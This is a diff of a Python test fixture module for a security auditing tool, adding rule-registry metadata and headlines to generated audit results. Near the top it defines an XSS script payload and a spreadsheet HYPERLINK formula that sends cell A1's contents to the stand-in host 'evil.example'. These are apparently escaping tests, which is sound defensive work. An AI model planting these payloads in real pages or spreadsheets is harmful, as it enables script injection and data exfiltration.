@@ -9,10 +9,13 @@ from __future__ import annotations
 
 from datetime import UTC, date, datetime
 from types import SimpleNamespace
+from typing import Any
 
 import pandas as pd
 
 from auditor.findings import AuditResult, Finding, RuleOutcome, RunInfo
+from auditor.rules import REGISTRY
+from auditor.rules.registry import headlines
 
 XSS = "<script>window.__pwned = 1; alert(1)</script>"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
@@ -43,6 +46,14 @@ RULES = [
 ]
 
 
+def _registry_meta(rule_id: str) -> dict[str, Any]:
+    """The metadata the engine copies from the rule registry onto each outcome."""
+    spec = REGISTRY.get(rule_id)
+    if spec is None:
+        return {}
+    return {"detection": spec.detection, "escalation": spec.escalation, "headline": spec.headline, "sheet": spec.sheet}
+
+
 def _outcomes(findings: list[Finding]) -> list[RuleOutcome]:
     out = []
     for rid, title, sev, needs in RULES:
@@ -65,6 +76,7 @@ def _outcomes(findings: list[Finding]) -> list[RuleOutcome]:
                 needs=needs,
                 rationale=f"Why {rid} matters: attackers love it.",
                 remediation=f"1. Fix {rid}.\n2. Verify it.",
+                **_registry_meta(rid),
             )
         )
     return out
@@ -373,5 +385,6 @@ def make_result(extra_findings: int = 0) -> AuditResult:
             }
         ],
         previous_run_id="run-122",
+        headlines=headlines(),
         model=model,  # type: ignore[arg-type]
     )
